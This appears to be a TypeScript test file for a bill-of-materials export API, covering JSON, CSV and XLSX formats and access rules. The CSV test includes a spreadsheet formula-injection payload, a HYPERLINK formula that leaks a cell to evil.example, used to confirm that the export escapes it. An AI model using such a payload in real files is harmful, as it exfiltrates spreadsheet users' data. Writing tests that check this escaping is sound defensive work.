import type { BillOfMaterials } from '@airlens/contract';
import type { EsxProject } from '@airlens/esx';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestApp } from '../../test/test-app';
import { createTestOrg, type TestSession } from '../auth/test-accounts';
import {
  createUploadsTestApp,
  smallEsx,
  uploadBytes,
  waitForFinalStatus,
} from '../uploads/uploads.test-helpers';
import {
  AT_NAME,
  buildExportsProject,
  EXTERNAL_ANTENNA_NAME,
  FORMULA_NAME,
  getAs,
  guestOf,
  importProject,
  MINUS_NAME,
  parseCsv,
  PLUS_NAME,
  TAB_NAME,
  TAG_KEY,
  TAG_VALUE,
} from './exports.test-helpers';

const NOT_FOUND = { message: 'Object Not Found Matching Id' };

let t: TestApp;
let owner: TestSession;
let colleague: TestSession;
let orgAdmin: TestSession;
let outsider: TestSession;
let outsiderAdmin: TestSession;
let project: EsxProject;
let formulaApId: string;
let antennaApId: string;
let projectId: string;
let otherProjectId: string;

const bomUrl = (id: string, format = 'json') => `/projectapi/v1/projects/${id}/bom?format=${format}`;

/** The APs the network inventory counts, computed here from the file itself: visible and "mine". */
function countedAps(source: EsxProject) {
  return source.accessPoints.filter((ap) => !ap.hidden && ap.mine);
}

beforeAll(async () => {
  const world = await createUploadsTestApp();
  t = world.t;
  owner = world.session;
  colleague = (await world.signInNew()).session;
  orgAdmin = (await world.signInNew({ orgAdmin: true })).session;
  const otherOrg = await createTestOrg(t);
  outsider = (await world.signInNew({ orgId: otherOrg })).session;
  outsiderAdmin = (await world.signInNew({ orgId: otherOrg, orgAdmin: true })).session;
  ({ project, formulaApId, antennaApId } = buildExportsProject());
  projectId = await importProject(t, owner, project);
  const other = await waitForFinalStatus(t, owner, await uploadBytes(t, owner, smallEsx({ seed: 11 })));
  otherProjectId = other.projectId ?? '';
}, 120_000);

afterAll(async () => {
  await t.close();
});

async function bomJson(): Promise<BillOfMaterials> {
  const response = await getAs(t, owner, bomUrl(projectId));
  expect(response.statusCode).toBe(200);
  return response.json<BillOfMaterials>();
}

describe('bill of materials', () => {
  it('counts exactly the network inventory: the same total as the inventory answers, per model and floor', async () => {
    const bom = await bomJson();
    const inventory = await getAs(t, owner, `/insightapi/v1/deviceCounts/totals?projectId=${projectId}`);
    expect(inventory.statusCode).toBe(200);
    const { totalDeviceCount } = inventory.json<{ totalDeviceCount: number }>();
    const counted = countedAps(project);
    expect(totalDeviceCount).toBe(counted.length);
    expect(bom.models.reduce((sum, model) => sum + model.count, 0)).toBe(totalDeviceCount);
    expect(bom.accessPoints).toHaveLength(totalDeviceCount);
    for (const model of bom.models) {
      expect(model.perFloor.reduce((sum, floor) => sum + floor.count, 0)).toBe(model.count);
    }

    const floorName = new Map(project.floorPlans.map((plan) => [plan.id, plan.name]));
    const expected = new Map<string, { count: number; floors: Map<string | null, number> }>();
    for (const ap of counted) {
      const key = `${ap.vendor ?? ''}|${ap.model ?? ''}`;
      const entry = expected.get(key) ?? { count: 0, floors: new Map<string | null, number>() };
      const floor = ap.location === undefined ? null : (floorName.get(ap.location.floorPlanId) ?? null);
      entry.count += 1;
      entry.floors.set(floor, (entry.floors.get(floor) ?? 0) + 1);
      expected.set(key, entry);
    }
    expect(
      bom.models.map((model) => [`${model.vendor ?? ''}|${model.model ?? ''}`, model.count]).sort(),
    ).toEqual([...expected].map(([key, entry]) => [key, entry.count]).sort());
    const aruba515 = bom.models.find((model) => model.model === 'AP-515');
    expect(aruba515?.count).toBe(1);
    for (const model of bom.models) {
      const floors = expected.get(`${model.vendor ?? ''}|${model.model ?? ''}`)?.floors;
      expect(
        Object.fromEntries(model.perFloor.map((floor) => [floor.floorPlanName ?? '-', floor.count])),
      ).toEqual(Object.fromEntries([...(floors ?? [])].map(([name, count]) => [name ?? '-', count])));
    }
  });

  it('answers the contract shape: models, antennas and a line per AP with floor, height, mounting and tags', async () => {
    const bom = await bomJson();
    expect(Object.keys(bom)).toEqual(['models', 'antennas', 'accessPoints']);
    for (const model of bom.models) {
      expect(Object.keys(model)).toEqual(['vendor', 'model', 'count', 'perFloor']);
    }
    expect(bom.antennas).toEqual([{ model: EXTERNAL_ANTENNA_NAME, count: 1 }]);
    const formulaAp = project.accessPoints.find((ap) => ap.id === formulaApId);
    const radio = project.simulatedRadios.find((candidate) => candidate.accessPointId === formulaApId);
    const line = bom.accessPoints.find((ap) => ap.name === FORMULA_NAME);
    expect(line).toEqual({
      name: FORMULA_NAME,
      floorPlanName: project.floorPlans.find((plan) => plan.id === formulaAp?.location?.floorPlanId)?.name,
      vendor: formulaAp?.vendor,
      model: formulaAp?.model,
      mountingHeight: Math.round((radio?.antenna.heightMeters ?? Number.NaN) * 10) / 10,
      mounting: 'CEILING',
      tags: [{ key: TAG_KEY, value: TAG_VALUE }],
    });
    expect(bom.accessPoints.some((ap) => ap.name === project.accessPoints.find((a) => a.hidden)?.name)).toBe(
      false,
    );
    // Lines run floor by floor in floor-plan order.
    const floorOrder = project.floorPlans.map((plan) => plan.name);
    const floorsOfLines = bom.accessPoints.map((ap) => floorOrder.indexOf(ap.floorPlanName ?? ''));
    expect(floorsOfLines).toEqual([...floorsOfLines].sort((a, b) => a - b));
    expect(project.accessPoints.some((ap) => ap.id === antennaApId && ap.name === PLUS_NAME)).toBe(true);
  });

  it('writes RFC 4180 CSV with every formula-like cell neutralised', async () => {
    const response = await getAs(t, owner, bomUrl(projectId, 'csv'));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename=".+ bill of materials\.csv"/,
    );
    // The quotes and the comma of the name make it a quoted field with doubled quotes.
    expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    const records = parseCsv(response.body);
    const cells = records.flat();
    for (const name of [FORMULA_NAME, AT_NAME, PLUS_NAME, MINUS_NAME, TAB_NAME]) {
      expect(cells).toContain(`'${name}`);
    }
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const bom = await bomJson();
    const titles = records
      .filter((record) => record.length === 1 && record[0] !== '')
      .map((record) => record[0]);
    expect(titles).toEqual(['Models', 'Antennas', 'Access points']);
    const modelsHeader = records[1] ?? [];
    expect(modelsHeader.slice(0, 3)).toEqual(['Vendor', 'Model', 'Count']);
    const modelsTotal = records.find((record) => record[0] === 'Total');
    expect(modelsTotal?.[2]).toBe(String(bom.accessPoints.length));
    expect(records.some((record) => record[0] === `Total: ${bom.accessPoints.length} access points`)).toBe(
      true,
    );
    const tagged = records.find((record) => record[0] === `'${FORMULA_NAME}`);
    expect(tagged?.at(-1)).toBe(`${TAG_KEY}: ${TAG_VALUE}`);
  });

  it('writes an XLSX with one sheet per table, a frozen header and a totals row, names kept as text', async () => {
    const response = await getAs(t, owner, bomUrl(projectId, 'xlsx'));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const workbook = new ExcelJS.Workbook();
    const bytes = new Uint8Array(response.rawPayload);
    await workbook.xlsx.load(bytes.buffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Models', 'Antennas', 'Access points']);
    const bom = await bomJson();
    for (const sheet of workbook.worksheets) {
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.getRow(1).font?.bold).toBe(true);
      expect(sheet.getRow(sheet.rowCount).font?.bold).toBe(true);
    }
    const models = workbook.getWorksheet('Models');
    expect(models?.getRow(1).values).toEqual(
      expect.arrayContaining(['Vendor', 'Model', 'Count', ...project.floorPlans.map((plan) => plan.name)]),
    );
    const modelsTotal = models?.getRow(models.rowCount);
    expect(modelsTotal?.getCell(1).value).toBe('Total');
    expect(modelsTotal?.getCell(3).value).toBe(bom.accessPoints.length);
    expect(models?.rowCount).toBe(bom.models.length + 2);
    const antennas = workbook.getWorksheet('Antennas');
    expect(antennas?.getRow(2).values).toEqual([undefined, EXTERNAL_ANTENNA_NAME, 1]);
    expect(antennas?.getRow(antennas.rowCount).values).toEqual([undefined, 'Total', 1]);
    const aps = workbook.getWorksheet('Access points');
    expect(aps?.rowCount).toBe(bom.accessPoints.length + 2);
    const nameCells: ExcelJS.Cell[] = [];
    aps?.getColumn(1).eachCell((cell) => nameCells.push(cell));
    const formulaCell = nameCells.find((cell) => cell.value === FORMULA_NAME);
    expect(formulaCell?.type).toBe(ExcelJS.ValueType.String);
    expect(nameCells.some((cell) => cell.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it('refuses an unknown format with 400 naming it', async () => {
    const response = await getAs(t, owner, bomUrl(projectId, 'pdf'));
    expect(response.statusCode).toBe(400);
    expect(response.body).toContain('format');
  });
});

describe('bill of materials access', () => {
  it('lets the owner, an organisation admin and a guest of the project read it', async () => {
    const guest = await guestOf(t, owner, projectId, 'bom-guest@example.net');
    for (const session of [owner, orgAdmin, guest]) {
      const response = await getAs(t, session, bomUrl(projectId, 'csv'));
      expect(response.statusCode).toBe(200);
    }
    // The guest sees only its one project.
    const elsewhere = await getAs(t, guest, bomUrl(otherProjectId));
    expect(elsewhere.statusCode).toBe(404);
    expect(elsewhere.json()).toEqual(NOT_FOUND);
  });

  it('answers 404 to a member without a role, another organisation and its admin, and for unknown ids', async () => {
    for (const session of [colleague, outsider, outsiderAdmin]) {
      const response = await getAs(t, session, bomUrl(projectId));
      expect(response.statusCode).toBe(404);
      expect(response.json()).toEqual(NOT_FOUND);
    }
    expect((await getAs(t, owner, bomUrl('00000000-0000-4000-8000-000000000000'))).statusCode).toBe(404);
    expect((await getAs(t, owner, bomUrl('not-a-project'))).statusCode).toBe(404);
  });

  it('answers 401 without a session', async () => {
    expect((await getAs(t, null, bomUrl(projectId))).statusCode).toBe(401);
  });
});
